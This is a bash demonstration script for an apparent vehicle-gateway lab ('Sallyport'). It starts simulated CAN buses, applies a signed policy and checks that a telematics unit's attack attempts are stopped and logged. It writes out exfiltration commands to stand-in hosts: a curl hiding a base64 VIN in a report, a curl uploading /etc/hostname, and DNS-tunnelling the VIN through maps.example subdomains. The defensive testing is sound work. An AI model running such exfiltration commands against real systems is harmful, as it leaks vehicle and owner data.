#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# One story, from a drive to a violation log. DRIVE=recording.log drives a real one;
# DEMO_OUT is where the ledger is left; DEMO_COLOUR=1 prints in colour.
. "$LAB_LIB"
set -u
ACT=0 FAILED=0
VIN=SALLYPRT0VAN00042 # the one that the attempts of attack.def carry
REPORTS=other.fleet.example
BOLD='' GREEN='' RED='' DIM='' PLAIN=''
if [ "${DEMO_COLOUR:-}" = 1 ]; then
    BOLD=$'\e[1m' GREEN=$'\e[32m' RED=$'\e[31m' DIM=$'\e[2m' PLAIN=$'\e[0m'
fi

# What is recorded so far, where the reader finds it: also when the story does not come to its end.
leave() {
    [ -n "${DEMO_OUT:-}" ] && [ -d $GW/ledger ] || return
    rm -rf "$DEMO_OUT/ledger.next"
    mkdir -p "$DEMO_OUT" && cp -r $GW/ledger "$DEMO_OUT/ledger.next" && cp $GW/ledger.pub "$DEMO_OUT/ledger.pub" &&
        rm -rf "$DEMO_OUT/ledger" && mv "$DEMO_OUT/ledger.next" "$DEMO_OUT/ledger"
}

act() {
    leave
    ACT=$((ACT + 1))
    printf '\n%s%2d  %s%s\n' "$BOLD" $ACT "$1" "$PLAIN"
}
tell() { printf '      %s\n' "$*"; }
show() { sed "s/^/      $DIM/; s/\$/$PLAIN/"; }

# outcome GOOD WHAT   GOOD is 0 when it came out as it should.
outcome() {
    if [ "$1" = 0 ]; then
        printf '      %s%s%s\n' "$GREEN" "$2" "$PLAIN"
    else
        printf '      %sNOT AS IT SHOULD BE: %s%s\n' "$RED" "$2" "$PLAIN"
        FAILED=$((FAILED + 1))
    fi
}

# The ids that the unit may read: of the built-in vehicle speed, engine and cruise; of a
# recording the three that are sent most often. One "id extended length" a line.
choose_ids() {
    if [ -z "${DRIVE:-}" ]; then
        printf '%s\n' "3A0 - 8" "0C0 - 8" "18FEF100 extended 8"
        return
    fi
    "$LAB_HOME/busiest.sh" "$DRIVE"
}

write_policy() {
    cat <<EOF
policy "demonstration" version 1
bus vehicle = can0 bitrate 500k
bus unit    = can1 bitrate 500k
from vehicle to unit {
EOF
    local id extended length pass
    while read -r id extended length; do
        [ "$extended" = extended ] || extended=
        case $length in 0) pass= ;; 1) pass="pass bytes 0 " ;; *) pass="pass bytes 0..1 " ;; esac
        echo "    id 0x$id ${extended:+extended }length 0..$length ${pass}rate 300/s"
    done <$LAB/ids
    cat <<EOF
}
from unit to vehicle {
    id 0x6A1 length 2 rate 1/s # wake the cabin heater
}
uplink {
    resolver $RESOLVER4
    secret vin "$VIN"
    pass tls  "$TELEMETRY" port 443 up 2MB/day down 10MB/day
    pass http "$REPORTS" port 80 request "POST" "/v1/report" body 1kB
    pass tls  "*.maps.example" port 443 names 2/hour
    deny otherwise decoy
}
EOF
}

# try SENTENCE REASON COMMAND   for sh, in the unit's network namespace.
try() {
    act "The unit $1."
    tell "$ $3"
    unit sh -c "$3" >$LAB/attempt.out 2>&1
    lab_wait 20 is_recorded "$2"
    outcome $? "stopped, and recorded as $2: $(explain)"
}

# attempt NAME   a row of 'sallyport-sim attack --table'.
attempt() {
    local reason side trace sentence command before
    IFS=$'\t' read -r _ reason side trace sentence command \
        < <(sallyport-sim attack --table | grep "^$1	")
    before=$(traces "$side" "$trace")
    try "$sentence" "$reason" "$command"
    [ "$(traces "$side" "$trace")" = "$before" ]
    outcome $? "nothing of it was seen $([ "$side" = net ] && echo 'on the cable to the cloud' || echo "on the vehicle's bus")"
}

# How much of an attempt is on the protected side.
traces() {
    if [ "$1" = net ]; then
        lab_seen "$2" | wc -l
    else
        grep -c " ${2%%:*}#" $LAB/vehicle_bus.out
    fi
}

is_recorded() { lab_log --json --reason "$1" >$LAB/recorded && grep -q '"verdict":"stopped"' $LAB/recorded; }
explain() { sed -n '1s/.*"sentence":"\([^"]*\)".*/\1/p' $LAB/recorded; }

# What the unit said there, as the decoy kept it: the line that has it.
heard() { lab_log --json --all --reason decoy_kept | grep -oF -m1 "$1"; }

printf '%sSallyport: a vehicle, its telematics unit, and the gateway between them%s\n' "$BOLD" "$PLAIN"
tell "The lab runs $([ "$LAB_WORLD" = uml ] && echo "in a User Mode Linux kernel of its own" || echo "on this kernel")."

[ -z "${DEMO_OUT:-}" ] || rm -rf "$DEMO_OUT/ledger" "$DEMO_OUT/ledger.pub" # of a run before this
[ -z "${DRIVE:-}" ] || "$LAB_HOME/recording.sh" "$DRIVE" || exit 1
lab_network && lab_buses && lab_cloud && lab_capture start
choose_ids >$LAB/ids
write_policy >$LAB/demo.policy
lab_start vehicle_bus candump -L can0,7DF:7FF,7E8:7FF,2F1:7FF

act "The gateway is fitted, with a signed policy: what it does not name does not cross."
lab_gateway_files && lab_policy $LAB/demo.policy >$LAB/compile.out 2>&1 && lab_gateway_start
outcome $? "in service: $(lab_status | head -1)"
[ -z "${DRIVE:-}" ] || tell "It gives the unit the three ids that the recording has most often:"
grep -E '^    (id|secret|pass|deny)' $LAB/demo.policy | sed 's/^    //' | show

if [ -n "${DRIVE:-}" ]; then
    act "The vehicle drives: the recording ${DRIVE##*/}, at its own pace."
    lab_start vehicle sallyport-sim vehicle --log "$DRIVE" --repeat can0
else
    act "The vehicle drives: twelve messages, with counters and checksums."
    lab_start vehicle sallyport-sim vehicle can0
fi
sleep 1
timeout 5 candump -n 4 -L can0 | cut -d' ' -f2- | show
kill -0 "$PID_vehicle" 2>/dev/null || { cat $LAB/vehicle.out; outcome 1 "the drive has ended already"; }

act "The unit reads what it may, and of that only the bytes that are given."
timeout 2 candump -L can0 can1 >$LAB/both.out
first=$(cut -d' ' -f1 $LAB/ids | head -1)
sent=$(grep -m1 " can0 $first#" $LAB/both.out | cut -d' ' -f3)
seen=$(grep " can1 $first#" $LAB/both.out | grep -m1 "#${sent#*#}" | cut -d' ' -f3)
seen=${seen:-$(grep -m1 " can1 $first#${sent:${#first}+1:4}" $LAB/both.out | cut -d' ' -f3)}
tell "on the vehicle's bus  $sent"
tell "on the unit's bus     $seen"
strange=$(awk '$2 == "can1" { split($3, part, "#"); print part[1] }' $LAB/both.out | sort -u |
    grep -vxF -f <(cut -d' ' -f1 $LAB/ids) | tr '\n' ' ')
count=$(grep -c ' can1 ' $LAB/both.out)
[ "$count" -gt 0 ] && [ -z "$strange" ]
outcome $? "$count frames reached the unit, of $(grep -c ' can0 ' $LAB/both.out); none with an id that is not given"
! awk '$2 == "can1" { split($3, part, "#"); print substr(part[2], 5) }' $LAB/both.out | grep -q '[^0]'
outcome $? "every byte that is not given arrived as zero"

act "Honest telemetry passes."
tell "$ curl --cacert cloud.pem -d speed=42 https://$TELEMETRY/telemetry"
unit curl -sS -m 10 --cacert $LAB/cloud.pem -d speed=42 https://$TELEMETRY/telemetry >$LAB/honest.out 2>&1
code=$?
show <$LAB/honest.out
[ $code = 0 ] && grep -q "received 8 bytes" $LAB/honest.out
outcome $? "the cloud has it, and its answer came back"

attempt plain_http
tell "It took itself for connected: a decoy had taken the connection."
lab_wait 20 heard "vin=$VIN"
outcome $? "what it said to the decoy is kept as evidence: vin=$VIN"

try "hides the VIN in a report that it may send" secret_found \
    "curl -4s -m 5 -d id=$(printf %s "$VIN" | base64) http://$REPORTS/v1/report"
try "sends to the same server what is no report" request_not_allowed \
    "curl -4s -m 5 -T /etc/hostname http://$REPORTS/v1/upload"
seen=$(lab_seen -A tcp port 80)
[ -n "$seen" ] && ! grep -qE 'HTTP/1|id=' <<<"$seen"
outcome $? "the connections were seen on the cable to the cloud, and not a line of either"

try "asks for one name after another below a zone that it may ask for" name_budget_spent \
    "dig +tries=1 +time=2 $(printf %s "$VIN" | od -An -tx1 -w5 | sed 's/ //g; s/$/.maps.example/' | paste -sd' ')"
count=$(grep -c '^dns .*\.maps\.example' $LAB/cloud.out)
[ "$count" = 2 ]
outcome $? "$count names were asked for, as many as an hour has, and no more"

for name in forbidden_name foreign_resolver icmp obd_vin unlock; do
    attempt $name
done

lab_stop vehicle capture vehicle_bus
lab_gateway_stop
act "The violation log, as the officer reads it."
lab_log | show
act "The log is whole, and nobody has touched it."
tell "$ sallyport verify ledger --key ledger.pub"
sallyport verify $GW/ledger --key $GW/ledger.pub >$LAB/verify.out 2>&1
code=$?
show <$LAB/verify.out
outcome $code "verified"

if [ -n "${DEMO_OUT:-}" ]; then
    leave
    outcome $? "left in $DEMO_OUT: ledger and ledger.pub"
fi
lab_end
echo
if [ $FAILED = 0 ]; then
    printf '%sEverything came out as it should.%s\n' "$GREEN" "$PLAIN"
else
    printf '%s%d things did not come out as they should.%s\n' "$RED" $FAILED "$PLAIN"
fi
[ $FAILED = 0 ]
